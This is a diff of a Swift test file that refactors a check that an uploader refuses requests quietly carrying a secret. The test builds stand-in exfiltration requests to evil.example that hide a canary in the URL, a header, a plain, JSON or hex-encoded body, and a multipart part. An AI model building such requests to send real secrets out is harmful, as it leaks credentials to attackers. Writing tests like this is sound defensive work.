@@ -125,27 +125,38 @@ import UploaderCore
     }
   }
 
-  private static func stray(body: String) -> RequestDescription {
+  fileprivate static func stray(body: String) -> RequestDescription {
     let head = RequestHead(.post, .url("https://evil.example/"))
     return .inMemory(InMemoryRequestDescription(head, body: .init(Array(body.utf8), contentType: "text/plain")))
   }
 
-  /// An echo, or what an earlier request had sent.
-  @Test(
-    arguments: [
-      .inMemory(InMemoryRequestDescription(RequestHead(.get, .url("https://evil.example/?k=\(canary)")))),
-      .inMemory(
-        InMemoryRequestDescription(
-          RequestHead(.get, .url("https://evil.example/")) { $0.headers = [.userAgent: canary] })),
-      stray(body: canary), stray(body: "{\"a\": \"x\(canary)y\"}"),
-      stray(body: canary.utf8.map { "\($0 < 16 ? "0" : "")\(String($0, radix: 16))" }.joined()),
-      .multipart(
-        MultipartRequestDescription(
-          RequestHead(.post, .url("https://evil.example/")),
-          parts: [MultipartPart(name: "a", content: .bytes(Array(canary.utf8)))])),
-    ] as [RequestDescription])
-  func `a secret that a request contains unknowingly is found`(description: RequestDescription) throws {
-    let error = #expect(throws: UploadError.self) { try prepare(description) }
+  /// Where a request may contain a secret unknowingly: an echo, or what an earlier request had sent.
+  enum Place: CaseIterable {
+    case url, header, body, longerBody, hexBody, part
+
+    func request(containing text: String) -> RequestDescription {
+      switch self {
+      case .url:
+        let head = RequestHead(.get, .url("https://evil.example/?k=\(text)"))
+        return .inMemory(InMemoryRequestDescription(head))
+      case .header:
+        let head = RequestHead(.get, .url("https://evil.example/")) { $0.headers = [.userAgent: text] }
+        return .inMemory(InMemoryRequestDescription(head))
+      case .body: return PreparedRequestTests.stray(body: text)
+      case .longerBody: return PreparedRequestTests.stray(body: "{\"a\": \"x\(text)y\"}")
+      case .hexBody:
+        return PreparedRequestTests.stray(body: text.utf8.map { "\($0 < 16 ? "0" : "")\(String($0, radix: 16))" }.joined())
+      case .part:
+        let parts = [MultipartPart(name: "a", content: .bytes(Array(text.utf8)))]
+        let head = RequestHead(.post, .url("https://evil.example/"))
+        return .multipart(MultipartRequestDescription(head, parts: parts))
+      }
+    }
+  }
+
+  @Test(arguments: Place.allCases)
+  func `a secret that a request contains unknowingly is found`(place: Place) throws {
+    let error = #expect(throws: UploadError.self) { try prepare(place.request(containing: Self.canary)) }
     guard case .secretRefused(let refused, _) = error?.fact else {
       Issue.record("\(String(describing: error))")
       return
